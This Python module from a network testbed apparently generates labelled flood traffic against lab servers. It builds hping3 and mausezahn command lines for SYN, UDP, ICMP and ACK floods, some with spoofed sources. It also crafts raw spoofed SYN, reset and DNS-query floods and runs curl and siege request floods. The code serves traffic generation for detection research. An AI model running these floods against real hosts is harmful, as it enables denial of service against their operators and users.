"""Floods: many packets or requests of one kind at one server.

By hping3 and mausezahn, by frames of our own, and by curl and siege, which ask for one page over
and over.
"""

from __future__ import annotations

import random
import re
from dataclasses import dataclass

from wirelens_testbed.attacks import frames
from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.attacks.frame_sender import evenly
from wirelens_testbed.attacks.network import DEVICE
from wirelens_testbed.scenario import Table

HPING_PROGRAMS = {"hping3": "hping3"}
CURL_PROGRAMS = {"curl": "curl"}
MAUSEZAHN_PROGRAMS = {"mausezahn": "netsniff-ng"}
SIEGE_PROGRAMS = {"siege": "siege"}
PROGRAMS = HPING_PROGRAMS | CURL_PROGRAMS | MAUSEZAHN_PROGRAMS | SIEGE_PROGRAMS

HPING_OPTIONS = {
    "hping_syn_flood": ("--syn",),
    "hping_ack_flood": ("--ack",),
    "hping_udp_flood": ("--udp",),
    "hping_icmp_flood": ("--icmp",),
}
FORGED_FLOODS = (
    "forged_syn_flood", "forged_udp_flood", "forged_icmp_flood",
    "forged_reset_flood", "forged_query_flood",
)  # fmt: skip
SOURCES = ("own", "spoofed")
WEB_PORT = 80
DNS_PORT, DNS_TYPE_A = 53, 1
# Of a flood that pretends to end connections: of each packet one of these.
ENDING_FLAGS = (
    frames.TCP_RST, frames.TCP_RST | frames.TCP_ACK, frames.TCP_FIN | frames.TCP_ACK,
)  # fmt: skip

# hping3 waits a second for the last answer, and starts anew for each source.
HPING_WAIT_S = 2.0
# Handshake, request, an answer of a few frames, close; what was refused is tried again.
FRAMES_PER_REQUEST = 40
# A server that is flooded may refuse, be too slow, or fall silent.
CURL_FAILURES = (7, 28, 52, 56)
REQUESTS_PER_S_MIN = 20
MAUSEZAHN_PACKETS = {
    "mausezahn_syn_flood": ("tcp", ",flags=syn"),
    "mausezahn_udp_flood": ("udp", ""),
}
SOURCE_PORT_MIN = 1024
# The last part of an address that no machine has: of a victim that does not answer, or whose
# answers take another way.
SILENT_HOST = 250
SLOWNESS_FACTOR = 2  # its timer and a busy machine make it slower than asked


@dataclass
class HpingFlood(Attack):
    """A flood by hping3 from the attacker's own address, or from a few that it makes up."""

    programs = HPING_PROGRAMS

    name: str
    packet_count: int
    rate_per_s: float
    source: str
    source_count: int
    payload_size_bytes: int
    target: str
    port: int

    def __post_init__(self) -> None:
        self.needs = frozenset({self.target})
        if self.source == "own":
            self.source_count = 1
        self.spoofs = self.source == "spoofed"
        # Answers to its own address make the attacker's kernel reset or refuse.
        packets_max = self.packet_count * (1 if self.spoofs else 2) + OVERHEAD_PACKETS
        sending_s = self.packet_count / self.rate_per_s * SLOWNESS_FACTOR
        self.bounds = Bounds(packets_max, sending_s + self.source_count * HPING_WAIT_S + 5)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers[self.target]
        interval_us = max(round(1e6 / self.rate_per_s), 1)
        sources: list[str | None] = [None]
        if self.spoofs:
            hosts = range(1, scene.spoofed.num_addresses - 1)
            sources = [
                str(scene.spoofed[number]) for number in scene.rng.sample(hosts, self.source_count)
            ]
        sent = 0
        for index, source in enumerate(sources):
            # The remainder goes to the first ones.
            share = (self.packet_count + self.source_count - 1 - index) // self.source_count
            if share == 0:
                continue
            said = scene.run_tool(
                "sh", "-c", 'exec "$@" 2>&1', "sh",  # its counts go to standard error
                "hping3", *HPING_OPTIONS[self.name], "--numeric", "--quiet",
                "--count", str(share), "--interval", f"u{interval_us}",
                "--destport", str(self.port),
                "--data", str(self.payload_size_bytes),
                *(["--spoof", source] if source else []),
                target.address,
                statuses_wanted=(0, 1),  # 1: no answers came, as is right when spoofing
            )  # fmt: skip
            if counted := re.search(r"(\d+) packets transmitted", said):
                sent += int(counted[1])
        return {"target": target.address, "tool_sent": sent}


@dataclass
class ForgedFlood(Attack):
    """A flood whose every packet has another made-up source."""

    name: str
    packet_count: int
    rate_per_s: float
    payload_size_bytes: int
    is_answered: bool
    spoofs: bool = True

    def __post_init__(self) -> None:
        self.target = "names" if self.name == "forged_query_flood" else "web"
        self.needs = frozenset({self.target})
        time_max_s = self.packet_count / self.rate_per_s * SLOWNESS_FACTOR + 5
        self.bounds = Bounds(self.packet_count + OVERHEAD_PACKETS, time_max_s)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers[self.target]
        address = target.address if self.is_answered else str(scene.network[SILENT_HOST])
        source_mac = frames.mac_bytes(scene.attacker.mac)
        target_mac = frames.mac_bytes(target.mac)
        sent = []
        for _ in range(self.packet_count):
            number = scene.rng.randrange(1, scene.spoofed.num_addresses - 1)
            packet = self._packet(scene, str(scene.spoofed[number]), address)
            sent.append(frames.ethernet(source_mac, target_mac, frames.ETHER_TYPE_IPV4, packet))
        said = scene.send_frames(evenly(sent, self.rate_per_s))
        counted = re.search(r'"sent": (\d+)', said)
        return {"target": address, "tool_sent": int(counted[1]) if counted else 0}

    def _packet(self, scene: Scene, source: str, target: str) -> bytes:
        rng = scene.rng
        source_port = rng.randint(1024, 65535)
        payload = rng.randbytes(self.payload_size_bytes)
        if self.name == "forged_syn_flood":
            protocol = frames.PROTOCOL_TCP
            data = frames.tcp(
                source, target, (source_port, WEB_PORT),
                flags=frames.TCP_SYN, sequence=rng.getrandbits(32), window=rng.randint(512, 65535),
            )  # fmt: skip
        elif self.name == "forged_reset_flood":
            protocol = frames.PROTOCOL_TCP
            data = frames.tcp(
                source, target, (source_port, WEB_PORT),
                flags=rng.choice(ENDING_FLAGS), sequence=rng.getrandbits(32), window=0,
            )  # fmt: skip
        elif self.name == "forged_query_flood":
            protocol = frames.PROTOCOL_UDP
            data = frames.udp(source, target, (source_port, DNS_PORT), question(rng))
        elif self.name == "forged_udp_flood":
            protocol = frames.PROTOCOL_UDP
            data = frames.udp(source, target, (source_port, rng.randint(1, 65535)), payload)
        else:
            protocol = frames.PROTOCOL_ICMP
            data = frames.icmp_echo_request(rng.getrandbits(16), rng.getrandbits(16), payload)
        ttl = rng.randint(32, 128)
        return frames.ipv4(source, target, protocol, data, ident=rng.getrandbits(16), ttl=ttl)


def question(rng: random.Random) -> bytes:
    """A DNS question for the address of a name that nobody asked for before."""
    label = rng.randbytes(rng.randint(4, 12)).hex()
    return frames.dns_question(rng.getrandbits(16), f"{label}.example", DNS_TYPE_A)


@dataclass
class HttpFlood(Attack):
    """Requests for the smallest page of the web server, over many connections at once."""

    programs = CURL_PROGRAMS

    name: str
    request_count: int
    connection_count: int
    needs: frozenset[str] = frozenset({"web"})

    def __post_init__(self) -> None:
        packets_max = OVERHEAD_PACKETS + self.request_count * FRAMES_PER_REQUEST
        self.bounds = Bounds(packets_max, self.request_count / REQUESTS_PER_S_MIN + 10)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers["web"]
        answered = scene.run_tool(
            "curl", "-q", "--silent", "--parallel", "--parallel-immediate",
            "--parallel-max", str(self.connection_count), "--header", "Connection: close",
            "--output", "/dev/null", "--write-out", "%{http_code}\n",
            "--max-time", f"{scene.time_left_s():.0f}",
            # curl writes out the numbers itself; the server takes no notice of them.
            f"http://{target.address}{target.small_path}?[1-{self.request_count}]",
            statuses_wanted=(0, *CURL_FAILURES),
        )  # fmt: skip
        return {"target": target.address, "answered": answered.split().count("200")}


@dataclass
class MausezahnFlood(Attack):
    """Bursts by mausezahn, each from another address that it makes up and from port after port."""

    programs = MAUSEZAHN_PROGRAMS

    name: str
    burst_count: int
    packets_per_burst: int
    rate_per_s: float
    payload_size_bytes: int
    port: int
    needs: frozenset[str] = frozenset({"web"})
    spoofs: bool = True

    def __post_init__(self) -> None:
        packets = self.burst_count * self.packets_per_burst
        sending_s = packets / self.rate_per_s * SLOWNESS_FACTOR
        self.bounds = Bounds(packets + OVERHEAD_PACKETS, sending_s + self.burst_count * 2 + 5)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers["web"]
        protocol, flags = MAUSEZAHN_PACKETS[self.name]
        payload = scene.rng.randbytes(self.payload_size_bytes // 2).hex()
        for _ in range(self.burst_count):
            source = scene.rng.randrange(1, scene.spoofed.num_addresses - 1)
            first = scene.rng.randrange(SOURCE_PORT_MIN, 65_536 - self.packets_per_burst)
            # It sends its count once for each port of the range.
            ports = f"{first}-{first + self.packets_per_burst - 1}"
            scene.run_tool(
                "mausezahn", DEVICE, "-q", "-c", "1", "-d", f"{1e6 / self.rate_per_s:.0f}",
                "-A", str(scene.spoofed[source]), "-B", target.address, "-b", target.mac,
                *(["-P", payload] if payload and protocol == "udp" else []),
                "-t", protocol, f"sp={ports},dp={self.port}{flags}",
            )  # fmt: skip
        sent = self.burst_count * self.packets_per_burst
        return {"target": target.address, "tool_sent": sent}


@dataclass
class Siege(Attack):
    """Users that ask for pages of the web server without a pause."""

    programs = SIEGE_PROGRAMS

    name: str
    user_count: int
    requests_per_user: int
    needs: frozenset[str] = frozenset({"web"})

    def __post_init__(self) -> None:
        requests = self.user_count * self.requests_per_user
        packets_max = OVERHEAD_PACKETS + requests * FRAMES_PER_REQUEST
        self.bounds = Bounds(packets_max, requests / REQUESTS_PER_S_MIN + 15)

    def launch(self, scene: Scene) -> dict[str, object]:
        target = scene.servers["web"]
        settings = scene.folder / "siegerc"
        settings.write_text("verbose = false\nlogging = false\nparser = false\ntimeout = 5\n")
        said = scene.run_tool(
            "siege", "--rc", settings, "--benchmark", "--json-output", "--quiet",
            f"--concurrent={self.user_count}", f"--reps={self.requests_per_user}",
            f"http://{target.address}{target.small_path}",
        )  # fmt: skip
        counted = re.search(r'"transactions":\s*(\d+)', said)
        return {"target": target.address, "answered": int(counted[1]) if counted else 0}


def parse_http(name: str, table: Table) -> Attack:
    return HttpFlood(
        name=name,
        request_count=table.take("requests", int, 500, minimum=1, maximum=20_000),
        connection_count=table.take("connections", int, 20, minimum=1, maximum=200),
    )


def parse_hping(name: str, table: Table) -> Attack:
    return HpingFlood(
        name=name,
        packet_count=table.take("packets", int, 2000, minimum=1, maximum=100_000),
        rate_per_s=table.take("rate_per_s", float, 1000.0, minimum=1, maximum=10_000),
        source=table.take("source", str, "own", among=SOURCES),
        source_count=table.take("sources", int, 1, minimum=1, maximum=20),
        payload_size_bytes=table.take("payload_bytes", int, 0, minimum=0, maximum=1400),
        target=table.take("target", str, "web"),
        port=table.take("port", int, WEB_PORT, minimum=1, maximum=65535),
    )


def parse_forged(name: str, table: Table) -> Attack:
    return ForgedFlood(
        name=name,
        packet_count=table.take("packets", int, 2000, minimum=1, maximum=100_000),
        rate_per_s=table.take("rate_per_s", float, 1000.0, minimum=1, maximum=10_000),
        payload_size_bytes=table.take("payload_bytes", int, 64, minimum=0, maximum=1400),
        is_answered=table.take("answered", bool, True),
    )


def parse_mausezahn(name: str, table: Table) -> Attack:
    return MausezahnFlood(
        name=name,
        burst_count=table.take("bursts", int, 3, minimum=1, maximum=100),
        packets_per_burst=table.take("packets", int, 200, minimum=1, maximum=5000),
        rate_per_s=table.take("rate_per_s", float, 500.0, minimum=1, maximum=10_000),
        payload_size_bytes=table.take("payload_bytes", int, 64, minimum=0, maximum=1000),
        port=table.take("port", int, WEB_PORT, minimum=1, maximum=65535),
    )


def parse_siege(name: str, table: Table) -> Attack:
    return Siege(
        name=name,
        user_count=table.take("users", int, 5, minimum=1, maximum=100),
        requests_per_user=table.take("requests", int, 20, minimum=1, maximum=1000),
    )


ATTACKS = {
    **dict.fromkeys(HPING_OPTIONS, parse_hping),
    **dict.fromkeys(FORGED_FLOODS, parse_forged),
    "http_flood": parse_http,
    **dict.fromkeys(MAUSEZAHN_PACKETS, parse_mausezahn),
    "siege_flood": parse_siege,
}
